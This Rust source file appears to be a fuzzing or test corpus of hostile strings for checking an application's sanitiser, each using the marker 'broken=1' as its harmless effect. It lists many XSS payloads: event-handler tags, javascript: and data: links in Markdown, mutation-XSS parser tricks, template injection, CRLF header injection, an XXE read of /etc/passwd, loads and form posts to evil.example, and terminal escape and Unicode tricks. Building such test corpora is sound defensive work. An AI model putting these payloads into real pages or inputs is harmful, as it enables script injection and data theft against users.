//! Hostile strings: shapes in which markup, scripts and control sequences were ever let through, each
//! with a harmless thing to do that would be noticed. Some would run where they are put into a page as
//! they are, others where they are put into an attribute, a title, a text area, a script or an address.

/// What would be noticed: a global of the page.
const DO: &str = "broken=1";

/// Elements with an event that comes by itself, or soon.
const ELEMENTS: [(&str, &str); 34] = [
    ("img src=x", "onerror"),
    ("image src=x", "onerror"),
    ("svg", "onload"),
    ("svg><animate attributeName=x", "onbegin"),
    ("svg><use href=x", "onload"),
    ("body", "onload"),
    ("body", "onpageshow"),
    ("body", "onhashchange"),
    ("frameset", "onload"),
    ("iframe src=about:blank", "onload"),
    ("video src=x", "onerror"),
    ("video><source src=x", "onerror"),
    ("audio src=x", "onerror"),
    ("object data=x", "onerror"),
    ("embed src=x", "onload"),
    ("link rel=stylesheet href=x", "onerror"),
    ("style", "onload"),
    ("script src=x", "onerror"),
    ("input autofocus", "onfocus"),
    ("input type=image src=x", "onerror"),
    ("select autofocus", "onfocus"),
    ("textarea autofocus", "onfocus"),
    ("button autofocus", "onfocus"),
    ("a href=# autofocus", "onfocus"),
    ("div tabindex=0 autofocus", "onfocus"),
    ("p contenteditable autofocus", "onfocusin"),
    ("details open", "ontoggle"),
    ("dialog open", "ontoggle"),
    ("marquee", "onstart"),
    (
        "div style=animation-name:x;animation-duration:1s",
        "onanimationstart",
    ),
    ("div style=transition:1s;width:9px", "ontransitionend"),
    ("math href=#", "onmouseover"),
    ("form", "onformdata"),
    ("slot", "onslotchange"),
];

/// Whatever a text may be inside of, closed.
const CLOSED: [&str; 16] = [
    "</title>",
    "</textarea>",
    "</style>",
    "</script>",
    "</pre>",
    "</option></select>",
    "</svg>",
    "</text></svg>",
    "</noscript>",
    "</template>",
    "</iframe>",
    "</xmp>",
    "-->",
    "--!>",
    "]]>",
    "?>",
];

/// Links as Markdown has them, and what is no link.
const LINKS: [&str; 36] = [
    "[x](javascript:DO)",
    "[x](JaVaScRiPt:DO)",
    "[x]( javascript:DO )",
    "[x](<javascript:DO>)",
    "[x](\u{1}javascript:DO)",
    "[x](java\tscript:DO)",
    "[x](java\nscript:DO)",
    "[x](<java\tscript:DO>)",
    "[x](javascript&colon;DO)",
    "[x](&#106;avascript:DO)",
    "[x](&#x6A;&#x61;vascript:DO)",
    "[x](javascript&#58;DO)",
    "[x](java&Tab;script:DO)",
    "[x](java&NewLine;script:DO)",
    "[x](javascript\\:DO)",
    "[x](%6Aavascript:DO)",
    "[x](vbscript:DO)",
    "[x](data:text/html,<script>DO</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5icm9rZW49MTwvc2NyaXB0Pg==)",
    "[x](blob:DO)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example \"a\\\" onfocus=DO autofocus \\\"\")",
    "[x](https://ok.example/\"onfocus=\"DO\"autofocus=\")",
    "[x](https://ok.example/' onfocus='DO' autofocus=')",
    "![x](javascript:DO)",
    "![x\" onerror=\"DO](https://evil.example/pixel.png)",
    "![](x)",
    "[![x](x)](javascript:DO)",
    "[x][y]\n\n[y]: javascript:DO",
    "[y]: <javascript:DO> \"x\"\n\n[y]",
    "<javascript:DO>",
    "<https://ok.example/\"onfocus=DO>",
    "<x@y.example\"onfocus=DO>",
    "```\" onfocus=DO autofocus x=\"\ncode\n```",
    "<div>\n\n[x](javascript:DO)\n\n</div>",
    "| <img src=x onerror=DO> | b |\n|--|--|\n| [x](javascript:DO) | <svg onload=DO> |",
];

/// Markup that parsers take apart in other ways than one expects, templates, and what uses the page's
/// own script or names.
const OTHERS: [&str; 78] = [
    "<script>DO</script>",
    "<SCRIPT>DO</SCRIPT>",
    "<script type=module>DO</script>",
    "<script src=data:,DO></script>",
    "<script src=//evil.example></script>",
    "<script\n>DO</script\n>",
    "<script/x>DO</script>",
    "<scr<script>ipt>DO</scr</script>ipt>",
    "<scr\0ipt>DO</script>",
    "<<script>DO//<</script>",
    "\u{ff1c}script\u{ff1e}DO\u{ff1c}/script\u{ff1e}",
    "&lt;script&gt;DO&lt;/script&gt;",
    "&#60;img src=x onerror=DO&#62;",
    "&#x3c;img src=x onerror=DO&#x3e;",
    "&lt;img src=x onerror=DO&gt",
    "\\u003cimg src=x onerror=DO\\u003e",
    "\\x3cscript\\x3eDO\\x3c/script\\x3e",
    "%3Cscript%3EDO%3C/script%3E",
    "+ADw-script+AD4-DO+ADw-/script+AD4-",
    "<svg><script>DO</script></svg>",
    "<svg><script href=data:,DO />",
    "<svg><style><img src=x onerror=DO></style></svg>",
    "<svg><a href=javascript:DO><text>x</text></a></svg>",
    "<svg><foreignObject><img src=x onerror=DO></foreignObject></svg>",
    "<svg><set attributeName=onmouseover to=DO>",
    "<svg></p><style><a id=\"</style><img src=x onerror=DO>\">",
    "<svg><desc><table><td><img src=x onerror=DO>",
    "<math><mtext><script>DO</script></mtext></math>",
    "<math><mi><style><!--</style><img src=x onerror=DO>-->",
    "<math><annotation-xml encoding=text/html><img src=x onerror=DO>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=DO>",
    "<noscript><p title=\"</noscript><img src=x onerror=DO>\">",
    "<table><style><img title=\"</style><img src=x onerror=DO>\">",
    "<select><template><img src=x onerror=DO></template></select>",
    "<select><option><iframe></select><b><script>DO</script>",
    "<template shadowrootmode=open><script>DO</script></template>",
    "<xmp><img title=\"</xmp><img src=x onerror=DO>\">",
    "<plaintext>",
    "<listing><img src=x onerror=DO>",
    "<!--><img src=x onerror=DO>-->",
    "<!--!><img src=x onerror=DO>",
    "<![CDATA[<img src=x onerror=DO>]]>",
    "<?xml version=\"1.0\"?><?xml-stylesheet href=\"javascript:DO\"?>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM \"file:///etc/passwd\">]>&y;",
    "<iframe srcdoc=\"<script>parent.DO</script>\">",
    "<iframe src=javascript:parent.DO>",
    "<object data=javascript:DO>",
    "<embed src=data:text/html,<script>DO</script>>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=\"0;url=javascript:DO\">",
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
    "<link rel=import href=//evil.example>",
    "<style>@import '//evil.example';*{display:none}</style>",
    "<p style=\"position:fixed;inset:0;background:url(//evil.example)\">",
    "<form action=//evil.example><button>x",
    "<form id=forms action=/swarm/pause method=post data-live><button autofocus>x",
    "<button formaction=javascript:DO form=forms>x",
    "<input form=forms formaction=javascript:DO type=image>",
    "<section data-part=//evil.example data-on=\"summary tickets agents\">x</section>",
    "<pre data-text=session data-listen=\"session=agent-1\">x</pre>",
    "<a id=waiting name=waiting href=javascript:DO>x</a>",
    "<form name=connection><input name=textContent><input name=attributes>",
    "<img name=getElementById><img name=querySelector>",
    "<a id=broken></a><a id=broken name=x href=//x></a>",
    "{{constructor.constructor('DO')()}}",
    "{{ 7*7 }}{% include 'frame.html' %}{# x #}",
    "${DO}#{DO}<%= DO %>*{DO}",
    "{{{DO}}}[[DO]]@(DO)",
    "<x ng-app ng-csp>{{$eval.constructor('DO')()}}</x>",
    "<x v-html=\"DO\" x-data=\"DO\" @click=\"DO\" hx-get=\"/x\">",
    "';DO;'\";DO;\"`;DO;`</script>",
    "\\';DO//",
    "javascript:DO",
    "data:text/html,<script>DO</script>",
    "//evil.example/%0d%0aSet-Cookie:x=y",
    "\r\n\r\n<script>DO</script>",
    "x\n\nevent: text\ndata: {\"into\":\"session\",\"text\":\"DO\",\"reset\":true}\n\n",
    "\n\nid: 999999999\ndata: summary\n\n",
];

/// Bytes that fool readers and terminals.
const CONTROLS: [&str; 24] = [
    "\u{1b}]0;broken\u{7}",
    "\u{1b}[2J\u{1b}[1;1Hbroken",
    "\u{1b}]8;;javascript:DO\u{1b}\\x\u{1b}]8;;\u{1b}\\",
    "\u{1b}]52;c;YnJva2Vu\u{7}",
    "\u{9b}31mbroken\u{9b}0m",
    "\u{1b}P+q544e\u{1b}\\",
    "\u{90}broken\u{9c}",
    "a\u{8}\u{8}\u{8}b\rc",
    "\u{0}<img src=x onerror=DO>\u{0}",
    "<im\u{0}g src=x onerror=DO>",
    "\u{feff}<script>DO</script>",
    "\u{fffe}\u{ffff}broken",
    "\u{202e}nekorb\u{202c}",
    "\u{2066}broken\u{2069}\u{2067}\u{2069}",
    "\u{200b}\u{200c}\u{200d}\u{2060}broken\u{ad}",
    "\u{2028}DO\u{2029}DO",
    "<img\u{a0}src=x\u{2003}onerror=DO>",
    "<img\u{c}src=x\u{c}onerror=DO>",
    "<img/src=x/onerror=DO/>",
    "<ſcript>DO</ſcript>",
    "Z\u{300}\u{301}\u{302}\u{303}\u{304}\u{305}\u{306}\u{307}\u{308}\u{309}\u{30a}\u{30b}",
    "\u{e0001}\u{e0062}\u{e0072}\u{1f468}\u{200d}\u{1f469}",
    "\u{1680}\u{3000}\u{2800}broken",
    "\u{85}\u{b}\u{1c}\u{1d}\u{1e}\u{1f}broken\u{7f}",
];

/// All of them, no two alike.
pub fn all() -> Vec<String> {
    let mut all = Vec::new();
    for (element, event) in ELEMENTS {
        all.push(format!("<{element} {event}={DO}>"));
        all.push(format!(
            "\"'><{} {event}=\"{DO}\"/>",
            element.to_uppercase()
        ));
        all.push(format!(
            "` {event}='{DO}' autofocus x=`<{element}\n{event}\n=\n{DO} "
        ));
    }
    for close in CLOSED {
        all.push(format!("{close}<img src=x onerror={DO}>"));
        all.push(format!("\"{close}' onfocus={DO} autofocus tabindex=0 x=\""));
    }
    for shape in LINKS.iter().chain(&OTHERS).chain(&CONTROLS) {
        all.push(shape.replace("DO", DO));
    }
    all.push("broken".repeat(5_000));
    all.push("<b>".repeat(3_000));
    all.push(format!("{}x", "> ".repeat(300)));
    all.push(format!("{}<img src=x onerror={DO}>", "[".repeat(2_000)));
    all
}

/// As a line of text: without control characters, of so many characters at most, not blank.
pub fn line(text: &str, most: usize) -> String {
    let line: String = text
        .chars()
        .filter(|c| !c.is_control())
        .take(most)
        .collect();
    match line.trim().is_empty() {
        true => format!("x{line}"),
        false => line,
    }
}

#[test]
fn there_are_more_than_enough_and_no_two_alike() {
    let all = all();
    let alike: std::collections::BTreeSet<_> = all.iter().collect();
    assert_eq!(alike.len(), all.len());
    assert!(all.len() >= 250, "{}", all.len());
}
